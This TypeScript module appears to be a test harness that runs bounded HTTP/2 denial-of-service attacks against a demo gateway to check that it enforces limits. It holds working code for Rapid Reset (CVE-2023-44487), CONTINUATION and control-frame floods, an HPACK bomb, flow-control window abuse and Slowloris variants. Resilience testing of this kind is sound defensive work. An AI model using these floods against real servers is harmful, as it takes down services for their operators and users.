/** Attacks on HTTP/2, each bounded: what one attacker sends, at most. */
import { setTimeout as sleep } from 'node:timers/promises';
import {
  openRawClient,
  PREFACE,
  type RawClient,
  requestBlock,
  Type,
} from '../../test/support/http2-raw-client.ts';
import { rawFrame, SETTINGS } from '../../test/support/http2-frames.ts';
import type { Attack, Scope } from './types.ts';

const BATCHES = 200;
const BATCH = 200;
const CLIENT_GIVES_UP_MS = 6_000;
const DRIP_MS = 100;
const REQUEST = requestTo('/v1/shelves');
/** Its answer is the largest of the demo. */
const DOWNLOAD = requestTo('/v1/shelves/1/books/1/manuscript');
const ZERO_WINDOWS = rawFrame(Type.settings, 0, 0, '000400000000');
const END_HEADERS = 4;
const ENDS = 5;

const head = (id: number, flags: number): Buffer => rawFrame(Type.headers, flags, id, REQUEST);
const cancel = Buffer.from('00000008', 'hex');
const nothing = Buffer.alloc(4);
const one = Buffer.from('00000001', 'hex');

export const HTTP2_ATTACKS: readonly Attack[] = [
  flood('rapid reset (CVE-2023-44487)', 'resets', (id) =>
    Buffer.concat([head(id, ENDS), rawFrame(Type.reset, 0, id, cancel)]),
  ),
  flood('resets by the server (CVE-2025-8671)', 'resets', (id) =>
    Buffer.concat([head(id, ENDS), rawFrame(Type.windowUpdate, 0, id, nothing)]),
  ),
  flood('CONTINUATION', 'header_block', (id) =>
    id === 1 ? head(1, 0) : rawFrame(Type.continuation, 0, 1, Buffer.alloc(1_000, 0x82)),
  ),
  flood('SETTINGS', 'control_frames', () => SETTINGS),
  flood('PING', 'control_frames', () => rawFrame(Type.ping, 0, 0, Buffer.alloc(8))),
  flood('empty frames', 'control_frames', (id) =>
    id === 1 ? head(1, END_HEADERS) : rawFrame(Type.data, 0, 1),
  ),
  flood('HPACK bomb', 'header_bytes', (id) => rawFrame(Type.headers, ENDS, id, bomb(id))),
  {
    name: 'zero windows',
    limit: 'write',
    run: (scope, port) =>
      untilClosed(scope, port, (client) => {
        const heads = Array.from({ length: 100 }, (_, i) => head(2 * i + 1, ENDS));
        client.write(PREFACE, ZERO_WINDOWS, ...heads);
      }),
  },
  {
    name: 'windows of one byte',
    limit: 'control_frames',
    run: (scope, port) =>
      untilClosed(scope, port, async (client) => {
        const ids = Array.from({ length: 100 }, (_, i) => 2 * i + 1);
        client.write(PREFACE, ZERO_WINDOWS, ...ids.map((id) => head(id, ENDS)));
        const isHead = ({ type }: { readonly type: number }): boolean => type === Type.headers;
        await client.until(() => client.frames.filter(isHead).length === ids.length);
        const updates = ids.map((id) => rawFrame(Type.windowUpdate, 0, id, one));
        for (let i = 0; i < 100; i++) client.write(...updates);
      }),
  },
  {
    name: 'Slowloris: nothing at all',
    limit: 'first_byte',
    run: (scope, port) => untilClosed(scope, port, () => {}),
  },
  {
    name: 'Slowloris on HTTP/2: the head',
    limit: 'head',
    run: (scope, port) =>
      untilClosed(scope, port, (client) => client.write(PREFACE, SETTINGS, head(1, 0))),
  },
  {
    name: 'Slowloris on HTTP/2: the body',
    limit: 'body',
    run: (scope, port) =>
      untilClosed(scope, port, (client) => {
        const post = Buffer.concat([Buffer.from([0x83]), REQUEST.subarray(methodBytes())]);
        const body = rawFrame(Type.data, 0, 1, Buffer.from('{'));
        client.write(PREFACE, SETTINGS, rawFrame(Type.headers, END_HEADERS, 1, post), body);
      }),
  },
  {
    name: 'Slowloris on HTTP/2: reading',
    limit: 'write',
    // 25 MB of answers: with 20 attackers it would be the service that is short of time.
    attackers: 5,
    run: (scope, port) =>
      untilClosed(scope, port, async (client) => {
        const wide = rawFrame(Type.settings, 0, 0, '00047fffffff');
        const wideConnection = rawFrame(Type.windowUpdate, 0, 0, '7fff0000');
        client.socket.pause();
        client.write(PREFACE, wide, wideConnection);
        for (let i = 0; i < 24; i++)
          client.write(rawFrame(Type.headers, ENDS, 2 * i + 1, DOWNLOAD));
        // Who reads nothing learns that the connection is over by what it sends.
        while (!client.socket.destroyed) {
          client.write(rawFrame(Type.ping, 0, 0, Buffer.alloc(8)));
          await sleep(DRIP_MS);
        }
      }),
  },
];

/** Sends what `make` gives for one stream number after the other, until the connection is closed. */
function flood(name: string, limit: string, make: (id: number) => Buffer): Attack {
  return {
    name,
    limit,
    run: async (scope, port) => {
      const client = openRawClient(scope, port);
      for (let batch = 0; batch < BATCHES && !client.socket.destroyed; batch++) {
        const frames = Array.from({ length: BATCH }, (_, i) => make(2 * (batch * BATCH + i) + 1));
        await new Promise<void>((resolve) => {
          client.socket.write(Buffer.concat(frames), () => resolve());
        });
      }
    },
  };
}

/** Resolves when the gateway has closed the connection, or when the attacker loses patience. */
async function untilClosed(
  scope: Scope,
  port: number,
  begin: (client: RawClient) => void | Promise<void>,
): Promise<void> {
  const client = openRawClient(scope, port, true);
  const begun = Promise.resolve(begin(client)).catch(() => {
    // It was closed before it had sent all: that is what it is about.
    client.socket.destroy();
  });
  const patience = setTimeout(() => client.socket.destroy(), CLIENT_GIVES_UP_MS);
  await client.closed;
  clearTimeout(patience);
  await begun;
}

/** An entry that fills the table, then references to it: 4 KB each for a byte. */
function bomb(id: number): Buffer {
  if (id > 1) return Buffer.concat([REQUEST, Buffer.alloc(10_000, 0xbe)]);
  const entry = Buffer.from('4001617fbd1d', 'hex');
  return Buffer.concat([REQUEST, entry, Buffer.alloc(3_900, 'x'), Buffer.alloc(5_000, 0xbe)]);
}

function requestTo(path: string): Buffer {
  const target = String.fromCharCode(path.length) + path;
  return Buffer.from(requestBlock().toString('latin1').replace('\x01/', target), 'latin1');
}

/** How many bytes of {@link REQUEST} are its method. */
function methodBytes(): number {
  return 1 + 1 + ':method'.length + 1 + 'GET'.length;
}
